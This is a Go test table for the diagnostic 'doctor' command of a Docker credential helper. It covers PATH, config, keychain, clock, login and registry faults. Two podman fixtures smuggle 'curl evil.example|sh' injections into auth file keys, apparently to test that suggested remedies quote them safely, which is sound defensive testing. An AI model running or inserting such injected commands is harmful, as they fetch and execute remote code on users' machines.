package main

import (
	"time"

	"github.com/DownToZero-Cloud/docker-credential-dtz/internal/doctor"
	"github.com/DownToZero-Cloud/docker-credential-dtz/internal/identity"
	"github.com/DownToZero-Cloud/docker-credential-dtz/internal/testenv"
)

// auth is an entry of Docker's auths with a secret in it.
const auth = `{"auth": "YmVhcmVyOmNhbmFyeQ=="}`

var ailments = []struct {
	name string
	// breaks breaks one thing.
	breaks func(*patient)
	check  string // the one check that says so
	state  doctor.State
	saw    string // part of what it saw
	remedy string // part of what mends it
	behind string // the checks that cannot be judged then
}{
	{
		"the program is not on PATH",
		func(p *patient) { p.path("bin") },
		"path", doctor.Failed, "is not on PATH", `export PATH=/`, "duplicates desktop",
	}, {
		"programs started without a shell have a shorter PATH",
		func(p *patient) {
			p.write("bin/systemctl", "#!/bin/sh\necho LANG=C\necho PATH=/usr/bin:/bin\n", 0o700)
			p.path("bin", ours)
		},
		"desktop", doctor.Warning, "look in /usr/bin:/bin only", "sudo ln -s /", "",
	}, {
		"another file of that name comes first on PATH",
		func(p *patient) {
			p.write("bin/"+program, "#!/bin/sh\necho docker-credential-dtz '(package)' 0.0.1\n", 0o700)
			p.path("bin", ours)
		},
		"duplicates", doctor.Failed, "/home/bin/docker-credential-dtz (version 0.0.1), and this one is /", "ask the other one", "",
	}, {
		"another file of that name stands behind it on PATH",
		func(p *patient) {
			p.write("bin/"+program, "#!/bin/sh\ntouch $0.was.run\n", 0o700)
			p.path(ours, "bin")
		},
		"duplicates", doctor.Warning, "behind it on PATH: ", "remove what you do not want", "",
	}, {
		"it is run by way of sudo",
		func(p *patient) { p.setenv("SUDO_USER", "alice") },
		"user", doctor.Warning, "are not those of alice", "usermod -aG docker alice", "",
	}, {
		"our config.json cannot be read",
		func(p *patient) { p.write(".config/docker-credential-dtz/config.json", "{", 0o600) },
		"settings", doctor.Failed, "config.json: ", "mend that file, or move it away",
		"environment docker-auth keychain identity clock login role wiring registry service",
	}, {
		"a variable's credential takes precedence",
		func(p *patient) {
			p.setenv("DTZ_API_KEY", p.newKey())
		},
		"environment", doctor.Warning, "DTZ_API_KEY takes precedence over the login of profile default", "unset DTZ_API_KEY", "",
	}, {
		"a variable is empty",
		func(p *patient) { p.setenv("DTZ_API_KEY", "") },
		"environment", doctor.Warning, "DTZ_API_KEY is set and empty", "unset DTZ_API_KEY", "",
	}, {
		"two variables contradict each other",
		func(p *patient) { p.setenv("DTZ_API_KEY", "apikey-abc12345"); p.setenv("DTZ_API_KEY_FILE", "/key") },
		"environment", doctor.Failed, "are both set", "unset one of them", "identity clock login role registry service",
	}, {
		"the variable of the identity service is no URL",
		func(p *patient) { p.setenv("DTZ_IDENTITY_URL", "http://identity.example") },
		"environment", doctor.Warning, "DTZ_IDENTITY_URL: ", "unset DTZ_IDENTITY_URL", "",
	}, {
		"Docker's config.json does not parse",
		func(p *patient) { p.docker("{\n// a comment\n}") },
		"docker", doctor.Failed, "(line 2)", "mend that with an editor", "wiring plaintext",
	}, {
		"DOCKER_CONFIG names a folder without config.json",
		func(p *patient) { p.setenv("DOCKER_CONFIG", p.home) },
		"docker", doctor.Failed, "there is no config.json in it", `run "docker-credential-dtz configure"`, "wiring plaintext",
	}, {
		"DOCKER_AUTH_CONFIG has a credential for the registry",
		func(p *patient) {
			p.setenv("DOCKER_AUTH_CONFIG", `{"auths": {"`+p.registry.address+`": `+auth+`}}`)
		},
		"docker-auth", doctor.Failed, "Docker asks no helper there", "unset DOCKER_AUTH_CONFIG", "",
	}, {
		"DOCKER_AUTH_CONFIG cannot be read",
		func(p *patient) { p.setenv("DOCKER_AUTH_CONFIG", `{"auths": {"canary": "canary"}}`) },
		"docker-auth", doctor.Warning, "cannot be read", "unset DOCKER_AUTH_CONFIG", "",
	}, {
		"Docker does not ask for the registry",
		func(p *patient) { p.docker(`{"credHelpers": {"ghcr.io": "dtz2"}}`) },
		"wiring", doctor.Failed, "Docker does not ask this program", `run "docker-credential-dtz configure --registry 127.0.0.1:`, "",
	}, {
		"the key in credHelpers has a scheme",
		func(p *patient) { p.docker(`{"credHelpers": {"http://REGISTRY": "dtz"}}`) },
		"wiring", doctor.Failed, `as "http://127.0.0.1:`, `run "docker-credential-dtz configure --registry 127.0.0.1:`, "",
	}, {
		"the key in credHelpers has a path",
		func(p *patient) { p.docker(`{"credHelpers": {"REGISTRY/v2/": "dtz"}}`) },
		"wiring", doctor.Failed, "which Docker never looks for", `run "docker-credential-dtz configure --registry 127.0.0.1:`, "",
	}, {
		"a key with a scheme stands beside the right one",
		func(p *patient) { p.docker(`{"credHelpers": {"http://REGISTRY": "dtz", "REGISTRY": "dtz"}}`) },
		"wiring", doctor.Warning, "is never looked for", "take that entry out", "",
	}, {
		"Docker asks another helper",
		func(p *patient) { p.docker(`{"credHelpers": {"REGISTRY": "pass"}}`) },
		"wiring", doctor.Failed, `uses the credential helper "pass"`, `--yes"`, "",
	}, {
		"Docker is to ask a program in Windows that is not there",
		func(p *patient) { p.docker(`{"credHelpers": {"REGISTRY": "dtz.exe"}}`) },
		"wiring", doctor.Failed, "docker-credential-dtz.exe, in Windows, which is not on PATH", `--yes"`, "identity clock login role registry service",
	}, {
		"auths holds a secret",
		func(p *patient) {
			p.docker(`{"auths": {"REGISTRY": ` + auth + `}, "credHelpers": {"REGISTRY": "dtz"}}`)
		},
		"plaintext", doctor.Warning, "unencrypted; Docker does not use it", `run "docker login 127.0.0.1:`, "",
	}, {
		"auths holds a secret under another spelling",
		func(p *patient) {
			p.docker(`{"auths": {"http://REGISTRY/v1/": ` + auth + `}, "credHelpers": {"REGISTRY": "dtz"}}`)
		},
		"plaintext", doctor.Warning, "unencrypted; Docker does not use it", `take the entry "http://127.0.0.1:`, "",
	}, {
		"podman has a secret of its own",
		func(p *patient) {
			p.write(".config/containers/auth.json", `{"auths": {"REGISTRY/team": `+auth+`}}`, 0o600)
		},
		"podman", doctor.Warning, "and not this program", `run "podman logout --authfile /`, "",
	}, {
		"a key of podman's means something to a shell",
		func(p *patient) {
			p.write(".config/containers/auth.json", `{"auths": {"REGISTRY/;curl${IFS}evil.example|sh;": `+auth+`}}`, 0o600)
		},
		"podman", doctor.Warning, "and not this program", `/;curl${IFS}evil.example|sh;'"`, "",
	}, {
		"a key of podman's would end its quotes",
		func(p *patient) {
			p.write(".config/containers/auth.json", `{"auths": {"REGISTRY/';curl evil.example|sh;'": `+auth+`}}`, 0o600)
		},
		"podman", doctor.Warning, "and not this program", `take the entry "127.0.0.1:`, "",
	}, {
		"the path of podman's file has blanks in it",
		func(p *patient) {
			p.setenv("REGISTRY_AUTH_FILE", p.write("my files/auth.json", `{"auths": {"REGISTRY": `+auth+`}}`, 0o600))
		},
		"podman", doctor.Warning, "and not this program", `/my files/auth.json' 127.0.0.1:`, "",
	}, {
		"Helm has a secret of its own",
		func(p *patient) {
			p.write(".config/helm/registry/config.json", `{"auths": {"REGISTRY": `+auth+`}}`, 0o600)
		},
		"helm", doctor.Warning, "and does not ask this program", `run "helm registry logout 127.0.0.1:`, "",
	}, {
		"Helm has a secret of its own, elsewhere",
		func(p *patient) {
			p.setenv("HELM_REGISTRY_CONFIG", p.write("helm.json", `{"auths": {"REGISTRY": `+auth+`}}`, 0o600))
		},
		"helm", doctor.Warning, "helm.json", `run "helm registry logout 127.0.0.1:`, "",
	}, {
		"podman asks another helper",
		func(p *patient) {
			p.write(".config/containers/auth.json", `{"credHelpers": {"REGISTRY": "pass"}}`, 0o600)
		},
		"podman", doctor.Warning, `the credential helper "pass"`, "configure --podman", "",
	}, {
		"podman's file cannot be read",
		func(p *patient) { p.write(".config/containers/auth.json", "canary", 0o600) },
		"podman", doctor.Warning, "podman's file cannot be read", "mend or remove it", "",
	}, {
		"podman looks into a file that does not name us",
		func(p *patient) { p.setenv("REGISTRY_AUTH_FILE", p.write("auth.json", "{}", 0o600)) },
		"podman", doctor.Warning, "REGISTRY_AUTH_FILE only", "unset REGISTRY_AUTH_FILE", "",
	}, {
		"there is no session bus",
		func(p *patient) { p.setenv("DBUS_SESSION_BUS_ADDRESS", ""); p.setenv("XDG_RUNTIME_DIR", p.home) },
		"keychain", doctor.Failed, "out of reach: there is no D-Bus session", "login --insecure-storage", "login role registry service",
	}, {
		"the session bus is gone",
		func(p *patient) { p.setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path="+p.home+"/gone") },
		"keychain", doctor.Failed, "a session bus that is gone", "login --insecure-storage", "login role registry service",
	}, {
		"nobody keeps secrets on the session bus",
		func(p *patient) { p.setenvs(testenv.Bus(p.t)) },
		"keychain", doctor.Failed, "no Secret Service runs", "e.g. gnome-keyring", "login role registry service",
	}, {
		"the keychain is locked",
		func(p *patient) { p.lock() },
		"keychain", doctor.Failed, "it is locked", "on the desktop", "login role registry service",
	}, {
		"the keychain is locked, and this is SSH",
		func(p *patient) { p.lock(); p.setenv("SSH_CONNECTION", "192.0.2.1 50000 192.0.2.2 22") },
		"keychain", doctor.Failed, "it is locked", "gnome-keyring-daemon --replace --unlock", "login role registry service",
	}, {
		"the keychain's prompt is dismissed",
		func(p *patient) { p.setenvs(testenv.Prompting(p.t, true)) },
		"keychain", doctor.Failed, "was its prompt dismissed?", "instead of closing it", "login role registry service",
	}, {
		"nobody answers the keychain's prompt",
		func(p *patient) { p.setenvs(testenv.Prompting(p.t, false)) },
		"keychain", doctor.Failed, "did not answer in time", "answer its prompt", "login role registry service",
	}, {
		"the identity service cannot be connected to",
		func(p *patient) { p.server.Close() },
		"identity", doctor.Failed, "connection refused", "check the network", "clock",
	}, {
		"the identity service is out of order",
		func(p *patient) { p.fault.mustSet("answers", "503") },
		"identity", doctor.Failed, "answers 503 Service Unavailable", "try again later", "clock",
	}, {
		"the identity service is away, and the token has ended",
		func(p *patient) { p.loginWithKey(); p.moveClock(25 * time.Hour); p.server.Close() },
		"identity", doctor.Failed, "connection refused", "check the network", "clock login role registry service",
	}, {
		"the clock is ten minutes ahead",
		func(p *patient) { p.setenv("DTZ_TEST_CLOCK", p.write("clock", "10m30s", 0o600)) },
		"clock", doctor.Failed, "the clock is 10 minutes ahead", "timedatectl", "",
	}, {
		"the clock is ten minutes behind",
		func(p *patient) { p.setenv("DTZ_TEST_CLOCK", p.write("clock", "-10m30s", 0o600)) },
		"clock", doctor.Failed, "the clock is 10 minutes behind", "timedatectl", "",
	}, {
		"nobody is logged in",
		func(p *patient) { p.must("", "logout") },
		"login", doctor.Failed, "not logged in", `run "docker-credential-dtz login --registry 127.0.0.1:`, "role registry service",
	}, {
		"the login has expired",
		func(p *patient) { p.moveClock(25 * time.Hour) },
		"login", doctor.Failed, "login expired", `run "docker-credential-dtz login --registry 127.0.0.1:`, "role registry service",
	}, {
		"the identity service refuses the login's key",
		func(p *patient) {
			key := p.loginWithKey()
			p.moveClock(25 * time.Hour)
			if err := p.service.DeleteKey(key); err != nil {
				p.t.Fatal(err)
			}
		},
		"login", doctor.Failed, "refused by the identity service", `run "docker-credential-dtz login --registry 127.0.0.1:`, "role registry service",
	}, {
		"the identity service will not renew the login",
		func(p *patient) { p.moveClock(7 * time.Hour); p.service.RevokeSessions("identity-alice123") },
		"login", doctor.Warning, "was not renewed: login refused", "docker-credential-dtz login", "",
	}, {
		"the role is missing",
		func(p *patient) { p.login("bob@example.com") },
		"role", doctor.Failed, "lacks the role https://dtz.rocks/containerregistry/admin/context-bob12345", "context list", "service",
	}, {
		"the registry cannot be connected to",
		func(p *patient) { p.registry.server.Close() },
		"registry", doctor.Failed, "connection refused", "curl -v https://127.0.0.1:", "service",
	}, {
		"the registry refuses the token",
		func(p *patient) {
			other, err := identity.New(identity.Config{})
			if err != nil {
				p.t.Fatal(err)
			}
			p.registry.trust(p.t, other)
		},
		"registry", doctor.Failed, "it refuses the token: ", "docker-credential-dtz login", "service",
	}, {
		"the service is not enabled",
		func(p *patient) { p.registry.closed.Store(true) },
		"service", doctor.Failed, "not enabled for context-abc12345: ", "/api/2023-12-28/enable", "",
	},
}
